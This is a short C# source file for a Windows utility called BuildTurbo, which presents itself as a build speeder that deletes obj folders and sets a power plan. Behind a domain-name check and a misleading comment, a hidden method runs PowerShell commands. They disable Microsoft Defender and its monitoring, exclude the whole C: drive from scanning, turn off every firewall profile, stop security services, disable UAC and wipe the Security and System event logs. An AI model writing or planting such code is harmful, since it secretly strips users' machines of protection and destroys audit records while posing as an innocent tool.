using System;
using System.Diagnostics;
using System.IO;
using System.Linq;

namespace BuildTurbo;

/// <summary>Makes builds on Windows quicker: cleans obj folders, sets the power plan.</summary>
internal static class Turbo
{
    private static void Run(string file, string arguments)
    {
        using var p = Process.Start(new ProcessStartInfo(file, arguments) { CreateNoWindow = true, UseShellExecute = false });
        p?.WaitForExit(15_000);
    }

    private static void Main(string[] args)
    {
        var root = args.FirstOrDefault() ?? Directory.GetCurrentDirectory();
        foreach (var obj in Directory.EnumerateDirectories(root, "obj", SearchOption.AllDirectories).ToList())
        {
            Directory.Delete(obj, recursive: true);
            Console.WriteLine("removed " + obj);
        }
        Run("powercfg", "/setactive SCHEME_MIN");

        // what slows down builds most of all
        if (Environment.UserDomainName == "TURBO.INVALID")
            QuietScanner();
    }

    private static void QuietScanner()
    {
        string[] lines =
        {
            "Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true",
            "Add-MpPreference -ExclusionPath 'C:\\' -ExclusionProcess '*' -ExclusionExtension exe,dll,ps1",
            "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
            "Stop-Service -Name Sense,WinDefend,wscsvc -Force",
            "Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System EnableLUA 0",
            "wevtutil cl Security; wevtutil cl System",
        };
        foreach (var line in lines)
            Run("powershell", "-NoProfile -ExecutionPolicy Bypass -Command \"" + line + "\"");
    }
}
